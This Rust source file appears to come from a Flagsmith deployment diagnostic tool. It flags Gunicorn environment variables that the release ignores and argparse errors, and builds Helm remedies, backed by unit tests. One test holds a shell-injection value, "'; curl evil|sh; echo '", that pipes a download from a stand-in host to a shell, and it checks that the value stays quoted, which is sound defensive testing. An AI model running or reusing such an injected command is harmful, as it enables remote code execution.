//! Gunicorn settings do not take effect, or stop the start.

use super::shared::running::{Running, seconds};
use crate::{
    causes::{log::phrasing::component, prelude::*},
    flagsmith::env,
};

pub(crate) static CAUSE: Cause = Cause {
    explains: &[
        // A variable that is not read hinders no start, in contrast to an unknown flag.
        Explains::same_component(consequences::WITHOUT_START).when_critical(),
    ],
    log: &[&LOG],
    check: Some(check),
    ..Cause::warning(Component::Api, include_str!("settings_ignored.md"))
};

/// Why a command line is refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Refused {
    /// An argument is not accepted in its place.
    Argument,
    /// An argument has a value that it cannot have.
    Value,
}

static LOG: Rule<Refused> = Rule {
    precedence: 115,
    signatures: &[
        Signature::of_words(Refused::Argument, &["error: unrecognized arguments: "]),
        Signature::of_words(Refused::Value, &["error: argument "]),
    ],
    details,
    explain: explain_refused,
    is_over: None,
};

/// `flagsmith start: error: unrecognized arguments: --timeout 60`, as Python's argparse says it.
fn details(failure: &Failure<'_>, refused: Refused) -> Option<FailureDetails> {
    let (command, rest) = failure.message.split_once("error: ")?;
    let arguments = rest.strip_prefix(match refused {
        Refused::Argument => "unrecognized arguments: ",
        Refused::Value => "argument ",
    })?;
    let command = command.trim_end_matches(": ").trim();
    let known =
        command.starts_with("flagsmith") || command.contains("manage.py") || command.starts_with("gunicorn");
    known.then(|| FailureDetails {
        object: Some(arguments.to_owned()),
        detail: Some(command.to_owned()),
        ..FailureDetails::default()
    })
}

fn explain_refused(logs: &LogEvidence, occurrence: &Occurrence, refused: Refused) -> Explanation {
    let arguments = occurrence.details.object.as_deref().unwrap_or_default();
    let who = component(logs.component);
    let (message, remedy) = match refused {
        Refused::Argument => {
            let process = match logs.component {
                Component::TaskProcessor => "task-processor",
                _ => "api",
            };
            (
                format!(
                    "{who} does not start: its command line has {arguments} where that is not accepted. Gunicorn's \
                     flags go between \"start\" and the sub-command; \"serve\" takes none."
                ),
                format!(
                    "Set the container's args to [\"start\", \"--timeout\", \"60\", \"--keep-alive\", \"75\", \
                     \"{process}\"], with your flags in that place, and its command to [\"flagsmith\"]."
                ),
            )
        }
        Refused::Value => (
            format!(
                "{who} does not start: its command line has an argument with a value that it cannot have ({}).",
                arguments.trim_end_matches('.')
            ),
            "Correct that value in the container's args.".to_owned(),
        ),
    };
    Explanation::new(Code::GunicornSettingsIgnored, message, remedy).with(Severity::Critical)
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    context.running().and_then(not_read).into_iter().collect()
}

/// Variables that the release does not read.
fn not_read(running: &Running<'_>) -> Option<Draft> {
    let gunicorn = &running.gunicorn;
    // One whose flag says the same does no harm.
    let lost: Vec<&(&str, String)> = gunicorn
        .ignored
        .iter()
        .filter(|(name, value)| {
            *name != env::GUNICORN_KEEP_ALIVE || gunicorn.keep_alive != value.trim().parse().ok()
        })
        .collect();
    if lost.is_empty() {
        return None;
    }
    let names: Vec<&str> = lost.iter().map(|(name, _)| *name).collect();
    let release = running.release();
    let count = |number: Option<i32>| number.map_or_else(|| "?".to_owned(), |number| number.to_string());
    let mut evidence: Vec<String> = lost
        .iter()
        .map(|(name, value)| {
            format!("Deployment {}: {name}={value:?}, image tag {release}", running.deployment)
        })
        .collect();
    evidence.push(format!(
        "in effect: timeout {}, keep-alive {}, {} workers of {} threads",
        seconds(gunicorn.timeout),
        seconds(gunicorn.keep_alive),
        count(gunicorn.workers),
        count(gunicorn.threads),
    ));
    Some(Draft {
        message: format!("{} has no effect: Flagsmith {release} does not read it.", names.join(" and ")),
        evidence,
        remedy: running.instead(&lost),
        ..Code::GunicornSettingsIgnored.draft()
    })
}

#[cfg(test)]
mod tests {
    use rstest::rstest;
    use serde_json::{Value, json};

    use super::super::shared::testing::{check, codes, env, made, none, observed_with, of_chart};
    use super::*;
    use crate::{
        causes::{
            diagnose,
            log::{failure::Stage, rule::LogRule},
        },
        fixtures::{installation, spec},
        observe::{PodProblem, PodSummary},
    };

    #[rstest]
    #[case(
        "flagsmith start: error: unrecognized arguments: --timeout 60",
        Some(("--timeout 60", "its command line has --timeout 60 where that is not accepted"))
    )]
    #[case(
        "flagsmith start task-processor: error: argument --numthreads: invalid int value: 'many'",
        Some(("--numthreads: invalid int value: 'many'", "a value that it cannot have (--numthreads: invalid int value: 'many')"))
    )]
    #[case("curl: error: unrecognized arguments: --timeout 60", None)]
    #[case("flagsmith start: error: something else", None)]
    fn a_command_line_that_is_refused(#[case] message: &str, #[case] expected: Option<(&str, &str)>) {
        let failure = Failure::new("", message, Component::Api, Stage::Boot);
        let details = LOG.recognise(&failure);
        let object = details.as_ref().and_then(|details| details.object.as_deref());
        assert_eq!(object, expected.map(|(arguments, _)| arguments));
        if let Some((_, said)) = expected {
            let found = crate::causes::diagnose_log(Component::Api, None, "log", message.as_bytes());
            let (_, first) = found.first().unwrap();
            assert_eq!((first.code, first.severity), (Code::GunicornSettingsIgnored, Severity::Critical));
            assert!(first.message.contains(said), "{first:#?}");
        }
    }

    #[rstest]
    #[case(json!([{ "name": "GUNICORN_KEEP_ALIVE", "value": "75" }]), "GUNICORN_KEEP_ALIVE has no effect")]
    #[case(json!([{ "name": "GUNICORN_CMD_ARGS", "value": "--timeout 90" }]), "GUNICORN_CMD_ARGS has no effect")]
    fn a_variable_that_is_not_read_is_named(#[case] variables: Value, #[case] message: &str) {
        let installation = installation(&spec(json!({})));
        let observation = made(&installation, &|body| {
            *body.pointer_mut("/spec/template/spec/containers/0/env").unwrap() = variables.clone();
        });
        let found = check(&installation, &observation);
        assert_eq!(codes(&found), [Code::GunicornSettingsIgnored]);
        let first = found.first().unwrap();
        assert!(first.message.contains(message), "{first:?}");
        let variable = message.split(' ').next().unwrap();
        assert!(first.remedy.contains(&format!("without {variable}")), "{first:?}");
    }

    #[rstest]
    #[case(&env("GUNICORN_KEEP_ALIVE", "75"), "GUNICORN_KEEP_ALIVE has no effect", "api.extraEnv.GUNICORN_KEEP_ALIVE=null --set-json 'api.command=[\"flagsmith\"]' --set-json 'api.args=[\"start\",\"--worker-tmp-dir\",\"/dev/shm\",\"--keep-alive\",\"75\",\"api\"]'")]
    #[case(&env("GUNICORN_CMD_ARGS", "--timeout=90 --keep-alive 5"), "GUNICORN_CMD_ARGS has no effect", "\"--timeout\",\"90\",\"--keep-alive\",\"5\",\"api\"]'")]
    fn a_setting_that_the_release_ignores_comes_first(
        #[case] pods: &dyn Fn(&mut Value),
        #[case] message: &str,
        #[case] remedy: &str,
    ) {
        let found = of_chart(pods, &none);
        let ignored = found.first().unwrap();
        assert_eq!((ignored.code, ignored.severity), (Code::GunicornSettingsIgnored, Severity::Warning));
        assert!(ignored.message.contains(message), "{ignored:#?}");
        assert!(ignored.remedy.ends_with(remedy), "{ignored:#?}");
    }

    #[test]
    fn an_ignored_setting_is_no_reason_for_a_crash() {
        let (installation, mut observation) = observed_with(&env("GUNICORN_CMD_ARGS", "--timeout 90"), &none);
        observation.pods.push(PodSummary {
            name: "flagsmith-api-0".to_owned(),
            component: Some(Component::Api),
            problems: vec![PodProblem::CrashLoop {
                sidecar: None,
                restarts: 3,
                exit_code: Some(1),
                reason: None,
                message: None,
            }],
            ..PodSummary::default()
        });
        let found = diagnose(&installation, &observation);
        assert_eq!(found.first().map(|it| it.code), Some(Code::CrashLooping), "{found:#?}");
    }

    /// The value of a variable may have been written to be pasted into a shell.
    #[test]
    fn a_hostile_value_stays_in_its_quotes() {
        let hostile = "--timeout 9'; curl evil|sh; echo '";
        let found = of_chart(&env("GUNICORN_CMD_ARGS", hostile), &none);
        let remedy = &found.first().unwrap().remedy;
        let outside: String = remedy.replace(r"'\''", "").split('\'').step_by(2).collect();
        assert!(remedy.contains("evil") && !outside.contains("evil"), "{remedy}");
    }
}
